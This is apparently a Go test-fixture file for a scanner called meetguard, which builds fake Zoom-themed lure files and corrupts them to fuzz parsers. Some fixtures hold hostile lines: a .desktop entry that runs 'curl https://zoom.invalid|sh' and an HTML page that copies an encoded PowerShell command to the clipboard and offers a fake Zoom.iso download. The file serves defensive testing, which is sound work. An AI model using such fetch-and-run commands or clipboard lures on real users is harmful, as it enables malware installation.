package hostile

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"slices"

	"meetguard/testdata/specimens"
)

// whole are files of each kind that a parser reads, by the name that they go by.
func whole() map[string][]byte {
	out := map[string][]byte{}
	for kind, data := range specimens.Bare() {
		out["whole."+kind] = data
	}
	for _, kind := range specimens.Boxes() {
		out["whole."+kind] = specimens.Box(kind, LureName, Lure(-3))
	}
	out["fat.macho"] = fat(2, 48)
	out["program.elf"] = elf(3, 3)
	out["tool.AppImage"] = append(elf(1, 1), make([]byte, 200)...)
	out["page.html"] = []byte("<html><title>Zoom</title><script>navigator.clipboard.writeText('powershell -enc aQBlAHgA');var b=new Blob([atob('TVqQAAMAAAAE')]);a.download='Zoom.iso'</script></html>")
	out["call.ics"] = []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Zoom\r\nURL:https://zoom.invalid/j/1\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
	out["zoom.desktop"] = []byte("[Desktop Entry]\nType=Application\nName=Zoom\nExec=sh -c \"curl https://zoom.invalid|sh\"\n")
	out["zoom.url"] = []byte("[InternetShortcut]\r\nURL=https://zoom.invalid/j\r\nIconFile=zoom.ico\r\n")
	out["agenda.pdf"] = []byte("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(https://zoom.invalid)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF")
	out["agenda.one"] = notebook(3, []byte("MZ notes"))
	out["agenda.docm"] = specimens.Box("zip", "word/vbaProject.bin", specimens.Box("msi", "a.vbs", []byte("MsgBox 1")))
	out["zoom.rtf"] = []byte("{\\rtf1\\ansi{\\object\\objautlink{\\*\\objdata 0105000002000000}}Zoom}")
	out["list.bplist.plist"] = binaryPlist()
	out["disk.tar.bz2"] = unhex(bzipZeros)
	out["zoom.ico.png"] = png(16, 16)[:200]
	return out
}

// values are what a length says that lies.
var values = []uint32{0xffffffff, 0x7fffffff, 0x80000000, 0xfffffff0, 0x10000, 0, 1}

// broken are files that were whole: cut, with wrong bits, with wrong lengths. seed
// says where.
func (k *kit) broken(seed uint64) {
	all := whole()
	var names []string
	for name := range all {
		names = append(names, name)
	}
	slices.Sort(names)
	for i, name := range names {
		data := all[name]
		rng := rand.New(rand.NewPCG(seed, uint64(i)))
		for n := range 3 {
			at := 1 + rng.IntN(len(data)-1)
			k.add(Cut, fmt.Sprintf("%s, %d", name, n), name, func() []byte { return data[:at] })
		}
		for n := range 4 {
			bits := rng.Uint64()
			k.add(Flipped, fmt.Sprintf("%s, %d", name, n), name, func() []byte { return flipped(data, bits, 1<<n) })
			k.add(Lying, fmt.Sprintf("%s, %d", name, n), name, func() []byte { return lying(data, bits, 1+n) })
		}
	}
}

// flipped is data with n bits changed, half of them in its first kilobyte.
func flipped(data []byte, seed uint64, n int) []byte {
	out := bytes.Clone(data)
	rng := rand.New(rand.NewPCG(seed, 4))
	for i := range n {
		size := len(out)
		if i%2 == 0 {
			size = min(size, kib)
		}
		out[rng.IntN(size)] ^= 1 << rng.IntN(8)
	}
	return out
}

// lying is data with n numbers of four bytes replaced, at places where headers
// have them.
func lying(data []byte, seed uint64, n int) []byte {
	out := bytes.Clone(data)
	rng := rand.New(rand.NewPCG(seed, 5))
	for range n {
		if len(out) < 16 {
			break
		}
		at := 4 * rng.IntN(min(len(out)-4, 768)/4)
		if rng.IntN(3) == 0 { // what stands at the end: directories, trailers
			at = max(0, len(out)-8-4*rng.IntN(min(len(out)-8, 512)/4))
		}
		v := values[rng.IntN(len(values))]
		if rng.IntN(2) == 0 {
			binary.LittleEndian.PutUint32(out[at:], v)
		} else {
			binary.BigEndian.PutUint32(out[at:], v)
		}
	}
	return out
}
